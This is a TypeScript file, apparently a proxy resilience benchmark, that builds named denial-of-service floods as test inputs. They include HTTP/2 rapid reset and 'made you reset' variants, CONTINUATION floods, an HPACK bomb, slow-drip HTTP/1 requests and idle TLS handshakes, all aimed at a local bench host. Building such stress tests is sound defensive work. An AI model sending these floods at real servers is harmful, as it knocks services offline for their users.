import { once } from 'node:events';
import { duplexPair } from 'node:stream';
import { connect } from 'node:tls';
import { HpackEncoder } from '../../src/proxy/codec/hpack-encoder.ts';
import * as h2 from '../../src/proxy/codec/http2-frames.ts';

/** One way to make a proxy work for nothing (CVEs and suites of others are named in docs/suites.md). */
export interface Flood {
  readonly name: string;
  /** How many connections the attacker holds at once; lost ones are opened again. */
  readonly connections: number;
  /** Sent first on each connection. */
  readonly hello: () => Buffer;
  /** The i-th piece of a connection; undefined: nothing more for now, ask again after `everyMs`. */
  readonly piece: (i: number) => Buffer | undefined;
  /** Waits so long between pieces instead of sending as fast as they are taken. */
  readonly everyMs?: number;
  /** The attacker does not read. */
  readonly deaf?: boolean;
}

const NUMBERS = 4;
const END = h2.END_STREAM | h2.END_HEADERS;
const CANCEL = 8;

function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  return Buffer.concat([h2.frameHeader(type, flags, id, payload.length), payload]);
}

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(NUMBERS);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

/** A header block that leaves no trace in the tables, so that it can be sent any number of times. */
function block(method: string, path: string, more: readonly string[] = []): Buffer {
  const encoder = new HpackEncoder();
  encoder.setMaxTable(0);
  const fields = [':method', method, ':scheme', 'http', ':path', path, ':authority', 'app.bench', ...more];
  return encoder.encode(fields);
}

const hello =
  (...settings: number[]) =>
  () =>
    Buffer.concat([h2.PREFACE, h2.settingsFrame(settings)]);
/** The client's i-th stream. */
const id = (i: number) => 2 * i + 1;
const SLOW = block('GET', '/slow');
const POST = block('POST', '/sink');
const POST_2 = block('POST', '/sink', ['content-length', '2']);
const BIG = block('GET', '/big');
const get = (i: number, what = SLOW) => frame(h2.HEADERS, END, id(i), what);
const post = (i: number, what = POST) => frame(h2.HEADERS, h2.END_HEADERS, id(i), what);

/** Pieces that come many to one write. */
const many = (n: number, one: (i: number) => Buffer) => (i: number) =>
  Buffer.concat(Array.from({ length: n }, (_, j) => one(i * n + j)));

/** Opens one stream, then sends the same frame again and again. */
const onOneStream = (open: Buffer, n: number, one: () => Buffer) => (i: number) =>
  i === 0 ? open : Buffer.concat(Array.from({ length: n }, one));

/** A block with one field of 4 KB in the table and thousands of references to it. */
function bomb(i: number): Buffer {
  const insert = Buffer.concat([Buffer.from([0x40, 1, 0x78]), length(4000), Buffer.alloc(4000, 'b')]);
  const references = Buffer.alloc(12_000, 0xbe); // index 62: the newest entry
  const fields = i === 0 ? Buffer.concat([SLOW, insert, references]) : Buffer.concat([SLOW, references]);
  return frame(h2.HEADERS, END, id(i), fields);
}

/** RFC 7541 5.1 with a prefix of seven bits. */
function length(n: number): Buffer {
  const bytes = [0x7f];
  for (let left = n - 0x7f; ; left >>= 7) {
    if (left < 0x80) return Buffer.from([...bytes, left]);
    bytes.push((left & 0x7f) | 0x80);
  }
}

/** Empties the table and sets its size back in each block, and fills it. */
const thrash = Buffer.concat([
  Buffer.from([0x20, 0x3f, 0xe1, 0x1f]),
  SLOW,
  ...Array.from({ length: 40 }, (_, i) =>
    Buffer.concat([Buffer.from([0x40, 1, 0x61 + (i % 26), 60]), Buffer.alloc(60, 'v')]),
  ),
]);

/** What distinguishes an HTTP/2 flood; most take two connections and the plainest beginning. */
type Http2Flood = Pick<Flood, 'name' | 'piece'> & Partial<Flood>;

const HTTP2: readonly Http2Flood[] = [
  { name: 'rapid reset', piece: many(50, (i) => Buffer.concat([get(i), frame(h2.RST_STREAM, 0, id(i), u32(CANCEL))])) },
  {
    name: 'made you reset: window over 2^31',
    piece: many(50, (i) => Buffer.concat([post(i), update(id(i), h2.MAX_WINDOW)])),
  },
  { name: 'made you reset: window update of 0', piece: many(50, (i) => Buffer.concat([post(i), update(id(i), 0)])) },
  {
    name: 'made you reset: DATA behind the end',
    piece: many(50, (i) => Buffer.concat([get(i), frame(h2.DATA, 0, id(i), u32(0))])),
  },
  { name: 'made you reset: HEADERS behind the end', piece: many(50, (i) => Buffer.concat([get(i), get(i)])) },
  {
    name: 'made you reset: more DATA than content-length',
    piece: many(50, (i) => Buffer.concat([post(i, POST_2), frame(h2.DATA, 0, id(i), u32(0))])),
  },
  {
    name: 'made you reset: PRIORITY on itself',
    piece: many(50, (i) =>
      Buffer.concat([post(i), frame(h2.PRIORITY, 0, id(i), Buffer.concat([u32(id(i)), Buffer.from([1])]))]),
    ),
  },
  { name: 'malformed heads', piece: many(50, (i) => get(i, block('GET', '/', ['connection', 'close']))) },
  {
    name: 'CONTINUATION without end',
    piece: (i) => (i === 0 ? frame(h2.HEADERS, 0, 1, SLOW) : frame(h2.CONTINUATION, 0, 1, Buffer.alloc(16))),
  },
  {
    name: 'CONTINUATION of full frames',
    piece: (i) => (i === 0 ? frame(h2.HEADERS, 0, 1, SLOW) : frame(h2.CONTINUATION, 0, 1, Buffer.alloc(16_384, 0x82))),
  },
  { name: 'HPACK bomb', piece: bomb },
  { name: 'HPACK table thrash', piece: many(20, (i) => get(i, thrash)) },
  { name: 'PING', piece: many(200, () => frame(h2.PING, 0, 0, Buffer.alloc(8))) },
  { name: 'PING, answers not read', piece: many(200, () => frame(h2.PING, 0, 0, Buffer.alloc(8))), deaf: true },
  { name: 'SETTINGS', piece: many(200, (i) => h2.settingsFrame([h2.SETTINGS_INITIAL_WINDOW_SIZE, i % 65_536])) },
  { name: 'SETTINGS of one window with 250 streams open', piece: (i) => (i < 250 ? post(i) : wave(i)) },
  { name: 'empty DATA', piece: onOneStream(post(0), 200, () => frame(h2.DATA, 0, 1)) },
  {
    name: 'DATA of padding only',
    piece: onOneStream(post(0), 100, () => frame(h2.DATA, h2.PADDED, 1, Buffer.from([0]))),
  },
  { name: 'DATA of one byte', piece: onOneStream(post(0), 200, () => frame(h2.DATA, 0, 1, Buffer.from('x'))) },
  {
    name: 'DATA of one byte on two streams in turn',
    piece: (i) =>
      i === 0
        ? Buffer.concat([post(0), post(1)])
        : Buffer.concat(Array.from({ length: 200 }, (_, j) => frame(h2.DATA, 0, id(j % 2), Buffer.from('x')))),
  },
  { name: 'PRIORITY', piece: many(200, () => frame(h2.PRIORITY, 0, 1, Buffer.alloc(5))) },
  { name: 'WINDOW_UPDATE of 1 on the connection', piece: many(200, () => update(0, 1)) },
  { name: 'WINDOW_UPDATE of 1 on a stream', piece: onOneStream(post(0), 200, () => update(1, 1)) },
  { name: 'unknown frames', piece: many(200, () => frame(0x55, 0, 0, Buffer.alloc(8))) },
  {
    name: 'window of 0 with 100 large answers due',
    connections: 5,
    hello: hello(h2.SETTINGS_INITIAL_WINDOW_SIZE, 0),
    piece: (i) => (i < 100 ? get(i, BIG) : undefined),
    everyMs: 1,
  },
  {
    name: '250 large answers that nobody reads',
    connections: 3,
    piece: (i) => (i < 250 ? get(i, BIG) : undefined),
    everyMs: 1,
    deaf: true,
  },
  {
    name: '250 requests that are never ended',
    connections: 3,
    piece: (i) => (i < 250 ? post(i) : undefined),
    everyMs: 1,
  },
];

function update(stream: number, by: number): Buffer {
  return frame(h2.WINDOW_UPDATE, 0, stream, u32(by));
}

/** Moves the windows of every open stream to and fro. */
function wave(i: number): Buffer {
  return Buffer.concat(
    [0, 1].map((by) => h2.settingsFrame([h2.SETTINGS_INITIAL_WINDOW_SIZE, 65_535 - ((i + by) % 2)])),
  );
}

const text = (s: string) => Buffer.from(s, 'latin1');
const nothing = () => Buffer.alloc(0);
const byteOf = (s: string) => (i: number) => text(s[i % s.length]!);
const POST_HEAD = 'POST /sink HTTP/1.1\r\nhost: app.bench\r\n';

const HTTP1: readonly Flood[] = [
  {
    name: 'heads drop by drop',
    connections: 500,
    hello: () => text('GET /fast HTTP/1.1\r\nhost: app.bench\r\nx: '),
    piece: byteOf('y'),
    everyMs: 1000,
  },
  {
    name: 'bodies drop by drop',
    connections: 500,
    hello: () => text(`${POST_HEAD}content-length: 100000\r\n\r\n`),
    piece: byteOf('b'),
    everyMs: 1000,
  },
  {
    name: 'chunks drop by drop',
    connections: 500,
    hello: () => text(`${POST_HEAD}transfer-encoding: chunked\r\n\r\n`),
    piece: byteOf('1\r\nx\r\n'),
    everyMs: 1000,
  },
  { name: 'connections that say nothing', connections: 1000, hello: nothing, piece: () => undefined, everyMs: 1000 },
  {
    name: 'large answers that nobody reads',
    connections: 100,
    hello: () => text('GET /big HTTP/1.1\r\nhost: app.bench\r\n\r\n'),
    piece: () => undefined,
    everyMs: 1000,
    deaf: true,
  },
  {
    name: 'chunk extensions',
    connections: 2,
    hello: () => text(`${POST_HEAD}transfer-encoding: chunked\r\n\r\n`),
    piece: () => text(`1;${'e'.repeat(60)}\r\nx\r\n`.repeat(100)),
  },
  {
    name: 'chunk extension without end',
    connections: 2,
    hello: () => text(`${POST_HEAD}transfer-encoding: chunked\r\n\r\n1;`),
    piece: () => text('e'.repeat(16_384)),
  },
  {
    name: 'chunks of one byte',
    connections: 2,
    hello: () => text(`${POST_HEAD}transfer-encoding: chunked\r\n\r\n`),
    piece: () => text('1\r\nx\r\n'.repeat(500)),
  },
  {
    name: 'trailers without end',
    connections: 2,
    hello: () => text(`${POST_HEAD}transfer-encoding: chunked\r\n\r\n0\r\n`),
    piece: () => text('x: y\r\n'.repeat(500)),
  },
  {
    name: 'a head without end',
    connections: 2,
    hello: () => text('GET / HTTP/1.1\r\n'),
    piece: (i) => text(`x${i}: ${'y'.repeat(100)}\r\n`.repeat(50)),
  },
  { name: 'a target without end', connections: 2, hello: () => text('GET /'), piece: () => text('y'.repeat(16_384)) },
  {
    name: 'heads of 99 fields',
    connections: 2,
    hello: nothing,
    piece: () => text(`GET /fast HTTP/1.1\r\nhost: app.bench\r\n${'x: y\r\n'.repeat(98)}\r\n`),
  },
  { name: 'broken requests', connections: 4, hello: nothing, piece: () => text('GET / HTTP/1.1\r\nhost: a b\r\n\r\n') },
  {
    name: 'pipelined requests, answers not read',
    connections: 10,
    hello: nothing,
    piece: () => text('GET /fast HTTP/1.1\r\nhost: app.bench\r\n\r\n'.repeat(100)),
    deaf: true,
  },
];

/** What a client of TLS 1.3 says first. */
async function clientHello(): Promise<Buffer> {
  const [near, far] = duplexPair();
  const client = connect({ socket: near, minVersion: 'TLSv1.3', ALPNProtocols: ['h2'] });
  client.on('error', () => {});
  const [hello] = (await once(far, 'data')) as [Buffer];
  client.destroy();
  return hello;
}

const HELLO = await clientHello();

/** Handshakes that lead to nothing. */
const HANDSHAKES: readonly Flood[] = [
  { name: 'connections that say nothing', connections: 1000, hello: nothing, piece: () => undefined, everyMs: 1000 },
  { name: 'hello and silence', connections: 1000, hello: () => HELLO, piece: () => undefined, everyMs: 1000 },
  {
    name: 'hello drop by drop',
    connections: 500,
    hello: nothing,
    piece: (i) => HELLO.subarray(i % HELLO.length, (i % HELLO.length) + 1),
    everyMs: 200,
  },
  { name: 'no TLS at all', connections: 20, hello: nothing, piece: () => text('GET / HTTP/1.1\r\nhost: a\r\n\r\n') },
  {
    name: 'hello and garbage',
    connections: 20,
    hello: () => HELLO,
    piece: () => Buffer.alloc(16_384, '\x17\x03\x03\x00\x20garbage'),
  },
];

/** By name: `h1` and `h2` are for the plain listener that apps speak to, `h2` also for a tunnel, `tls` for the tunnel's listener. */
export const FLOODS: ReadonlyMap<string, Flood> = new Map(
  [
    ...HTTP2.map((flood) => ({ connections: 2, hello: hello(), ...flood, name: `h2 ${flood.name}` })),
    ...HTTP1.map((flood) => ({ ...flood, name: `h1 ${flood.name}` })),
    ...HANDSHAKES.map((flood) => ({ ...flood, name: `tls ${flood.name}` })),
  ].map((flood) => [flood.name, flood]),
);
